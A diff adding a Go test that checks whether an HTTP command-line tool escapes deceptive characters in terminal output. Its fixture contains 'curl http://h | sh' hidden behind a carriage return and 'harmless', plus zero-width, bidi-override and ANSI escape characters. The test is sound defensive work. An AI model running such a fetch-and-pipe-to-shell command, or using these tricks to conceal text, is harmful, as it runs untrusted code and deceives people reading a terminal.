@@ -150,6 +150,29 @@ func TestBinaryGuard(t *testing.T) {
 	shows(t, atTerminal(t, "--raw", server.URL), "\x00\x01\x02\x7f")
 }
 
+// TestDeceptiveText: a text at the terminal looks like what it is. What would hide a part
+// of it, or is not seen, is an escape, unless --raw asks for what was sent.
+func TestDeceptiveText(t *testing.T) {
+	const text = "curl http://h | sh\rharmless           \r\n" +
+		"a\u200bb\u2028c\u00add\U000e0041e\ufefff\u202eg\x1b[2K\n" +
+		"\tmay \u200cbe می\u200cخواهم 👩\u200d👧 ❤\ufe0f\n"
+	server := httptest.NewServer(nethttp.HandlerFunc(func(w nethttp.ResponseWriter, r *nethttp.Request) {
+		if r.URL.Path == "/pages/" {
+			w.Header().Set("Content-Type", "text/html")
+			io.WriteString(w, "<title>Index of /pages/</title><h1>Index of /pages/</h1><a href=\"a%E2%80%8Bb%0D%F3%A0%81%81\">x</a>")
+			return
+		}
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		io.WriteString(w, text)
+	}))
+	defer server.Close()
+	shows(t, atTerminal(t, server.URL), `curl http://h | sh\rharmless           `+"\r\n"+
+		`a\u200bb\u2028c\xadd\U000e0041e\ufefff\u202eg\x1b[2K`+"\n"+
+		"\tmay \\u200cbe می\u200cخواهم 👩\u200d👧 ❤\ufe0f\n")
+	shows(t, atTerminal(t, "--raw", server.URL), text)
+	shows(t, atTerminalOf(t, 80, "dumb", "ls", server.URL+"/pages/"), `document  a\u200bb\r\U000e0041`+"\n")
+}
+
 // TestPassword: the person at the terminal is asked for what is not known, and the
 // password is not shown.
 func TestPassword(t *testing.T) {
